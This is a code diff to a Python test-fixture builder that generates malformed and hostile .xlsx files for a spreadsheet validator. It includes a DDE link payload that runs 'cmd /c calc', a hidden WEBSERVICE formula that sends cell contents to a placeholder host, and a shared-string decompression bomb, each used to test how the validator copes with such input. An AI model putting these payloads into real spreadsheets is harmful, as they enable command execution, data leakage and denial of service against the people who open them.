@@ -87,6 +87,33 @@ def with_dtd(xml: str, dtd: str, use: str) -> str:
     return dtd + body.replace("</sheetData>", cell + "</sheetData>")
 
 
+def with_shared_strings(path: Path, strings: list[str], cells: dict[str, int]) -> None:
+    """Add a shared-string table holding ``strings`` and cells (ref -> index) using it to sheet 1."""
+    from xml.sax.saxutils import escape
+
+    with zipfile.ZipFile(path) as z:
+        parts = {n: z.read(n) for n in z.namelist()}
+    items = "".join(f"<si><t>{escape(s)}</t></si>" for s in strings)
+    parts["xl/sharedStrings.xml"] = ('<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/'
+                                     f'spreadsheetml/2006/main" count="{len(cells)}" uniqueCount="{len(strings)}">'
+                                     f"{items}</sst>").encode()
+    rows: dict[int, list[str]] = {}
+    for ref, index in cells.items():
+        rows.setdefault(int(re.sub(r"[A-Z]", "", ref)), []).append(f'<c r="{ref}" t="s"><v>{index}</v></c>')
+    sheet = parts["xl/worksheets/sheet1.xml"].decode()
+    added = "".join(f'<row r="{r}">{"".join(c)}</row>' for r, c in sorted(rows.items()))
+    parts["xl/worksheets/sheet1.xml"] = sheet.replace("</sheetData>", added + "</sheetData>").encode()
+    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
+        b"</Relationships>", b'<Relationship Id="rIdSst" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+                             b'relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>')
+    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
+        b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
+                     b'officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
+        for n, d in parts.items():
+            z.writestr(n, d)
+
+
 def good(path: Path) -> None:
     sheet_book([HEADER] + [task(i) for i in range(1, 4)]).save(path)
 
@@ -403,6 +430,109 @@ def _(path):
     from tests.builders import two_row_header_merged_areas
 
     two_row_header_merged_areas(path)
+
+
+# --------------------------------------------------------------------------- odd submissions that once stopped whole runs
+def dde_link_without_rels(path: Path) -> None:
+    """A DDE link part (valid OOXML: a DDE link needs no relationships part) that openpyxl cannot keep."""
+    good(path)
+    with zipfile.ZipFile(path) as z:
+        parts = {n: z.read(n) for n in z.namelist()}
+    parts["xl/externalLinks/externalLink1.xml"] = (
+        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink xmlns="http://schemas.openxmlformats.org/'
+        b'spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" '
+        b'advise="1"/></ddeItems></ddeLink></externalLink>')
+    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
+        b"</Types>", b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.'
+                     b'openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>')
+    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
+        b"</Relationships>", b'<Relationship Id="rIdX1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+                             b'relationships/externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>')
+    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
+        b"</sheets>", b'</sheets><externalReferences><externalReference r:id="rIdX1"/></externalReferences>')
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
+        for n, d in parts.items():
+            z.writestr(n, d)
+
+
+@case("dde-link-without-rels.xlsx", 0, tasks=3)
+def _(path):
+    dde_link_without_rels(path)
+
+
+@case("bad-marks-memory.xlsx", 1, codes={"lead-unit-missing"}, tasks=2)
+def _(path):
+    """An annotated copy whose hidden memory sheet was edited: cells that cannot exist, a broken fill."""
+    wb = sheet_book([HEADER, task(1), task(2, lead=None)])
+    memory = wb.create_sheet("_cchc_marks")
+    for row in (["sheet", "cell", "fill", "comment", "author"], ["Phụ lục", "A0", "", None, None],
+                ["Phụ lục", "ZZZZ9", "{hỏng", "x", None], ["Không có", "A1", "", None, None], [42, None, 7, 8, 9]):
+        memory.append(row)
+    memory.sheet_state = "veryHidden"
+    wb.save(path)
+
+
+@case("control-character-escape.xlsx", 1, codes={"budget-not-numeric"}, tasks=2)
+def _(path):
+    """Excel writes a control character in a cell as _x0001_: read, reported, never written back raw."""
+    sheet_book([HEADER, task(1, budget=None), task(2)]).save(path)
+    with_shared_strings(path, ["15.000.000 đồng_x0001_ theo dự toán"], {"G4": 0})
+
+
+@case("budget-309-nines.xlsx", 1, codes={"budget-not-numeric"}, tasks=2)
+def _(path):
+    sheet_book([HEADER, task(1, budget="9" * 309), task(2)]).save(path)
+
+
+@case("budget-infinite.xlsx", 0, codes={"budget-implausible"}, tasks=2)
+def _(path):
+    sheet_book([HEADER, task(1, budget=12345), task(2)]).save(path)
+    rewrite(path, "xl/worksheets/sheet1.xml", lambda s: s.replace("<v>12345</v>", "<v>1e999</v>"))
+
+
+@case("strict-ooxml.xlsx", 2, message="Strict Open XML")
+def _(path):
+    good(path)
+    with zipfile.ZipFile(path) as z:
+        parts = {n: z.read(n) for n in z.namelist()}
+    for name in ("xl/workbook.xml", "xl/worksheets/sheet1.xml"):
+        parts[name] = parts[name].replace(b"http://schemas.openxmlformats.org/spreadsheetml/2006/main",
+                                          b"http://purl.oclc.org/ooxml/spreadsheetml/main")
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
+        for n, d in parts.items():
+            z.writestr(n, d)
+
+
+@case("numbers-in-name-cells.xlsx", 1, codes={"lead-unit-unknown"}, tasks=2)
+def _(path):
+    sheet_book([HEADER, [1, "Rà soát thủ tục", 42, 12345, 7, "Quý II/2020", 1000], task(2)]).save(path)
+
+
+@case("shared-string-bomb.xlsx", 2, message="quá nhiều chữ")
+def _(path):
+    """117 KB that decodes to 650 MB: one 32,767-character string referenced by 20,000 cells."""
+    sheet_book([HEADER, task(1)]).save(path)
+    with_shared_strings(path, ["x" * 32767], {f"B{r}": 0 for r in range(5, 20005)})
+
+
+@case("long-continuation.xlsx", 0, codes={"row-fragment"}, tasks=1)
+def _(path):
+    """Page-break rows that join into a 64,000-character task (over a cell's 32,767)."""
+    part = "tiếp tục rà soát các văn bản " * 1100
+    sheet_book([HEADER, task(1), [None, part[:32000]], [None, part[:32000]]]).save(path)
+
+
+@case("property-formula.xlsx", 0, tasks=1)
+def _(path):
+    """Hidden template properties that look like formulas: copied as text, never as formulas."""
+    wb = sheet_book([HEADER, task(1)])
+    props = wb.create_sheet("_cchc")
+    for key, value in (("template_version", '=WEBSERVICE("http://example.invalid/?"&A1)'), ("period", "2020"),
+                       ("unit", "=1+1")):
+        props.append([key, value])
+        props.cell(props.max_row, 2).data_type = "s"
+    props.sheet_state = "veryHidden"
+    wb.save(path)
 
 
 def build(folder: Path, include_slow: bool = True) -> list[Case]:
